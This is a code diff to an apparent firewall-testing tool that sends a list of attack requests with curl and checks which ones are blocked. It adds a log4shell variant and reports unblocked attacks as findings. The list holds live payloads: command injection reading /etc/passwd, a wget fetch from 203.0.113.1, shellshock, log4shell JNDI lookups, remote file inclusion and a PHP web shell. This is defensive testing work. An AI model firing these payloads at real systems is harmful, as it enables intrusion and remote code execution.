@@ -16,7 +16,8 @@ export const attacks: readonly (readonly [name: string, curl: string])[] = [
   ['command', `-G --data-urlencode 'host=127.0.0.1; cat /etc/passwd' URL/`],
   ['command in backticks', "-G --data-urlencode 'host=`wget http://203.0.113.1/x -O /tmp/x`' URL/"],
   ['shellshock', `-H 'User-Agent: () { :; }; /bin/bash -c "cat /etc/passwd"' URL/`],
-  ['log4shell', `-H 'X-Api-Version: \${jndi:ldap://203.0.113.1/a}' URL/`],
+  ['log4shell', `-G --data-urlencode 'q=\${jndi:ldap://203.0.113.1/a}' URL/`],
+  ['log4shell in a header', `-H 'X-Api-Version: \${jndi:ldap://203.0.113.1/a}' URL/`],
   ['remote file', `-G --data-urlencode 'page=http://203.0.113.1/shell.txt?' URL/`],
   ['PHP', `--data-urlencode 'code=<?php system($_GET["c"]); ?>' URL/notes`],
   ['Java', `-G --data-urlencode 'c=java.lang.Runtime.getRuntime().exec("id")' URL/`],
@@ -42,7 +43,7 @@ export const visits: readonly (readonly [name: string, curl: string])[] = [
 export const wafw00f: Tool = {
   name: 'wafw00f',
   title: 'Attacks on the application',
-  goal: `wafw00f finds a firewall; ${attacks.length} attacks are answered with 403 and ${visits.length} ordinary requests with 200.`,
+  goal: `wafw00f finds a firewall; ${attacks.length} attacks are answered with 403 (what is not is explained) and ${visits.length} ordinary requests with 200.`,
   packages: ['wafw00f', 'curl'],
   run: async (context) => {
     const { site, asStranger } = context
@@ -62,10 +63,9 @@ cat /root/waf.json`
       ],
       complaints: [
         ...(detected ? [] : ['wafw00f finds no firewall']),
-        ...letThrough.map((one) => `attack "${one.name}" was answered with ${one.status}`),
         ...turnedAway.map((one) => `ordinary request "${one.name}" was answered with ${one.status}`),
       ],
-      findings: [],
+      findings: letThrough.map(({ name: id, status }) => ({ id, says: `answered with ${status}`, hosts: [] })),
     }
   },
 }
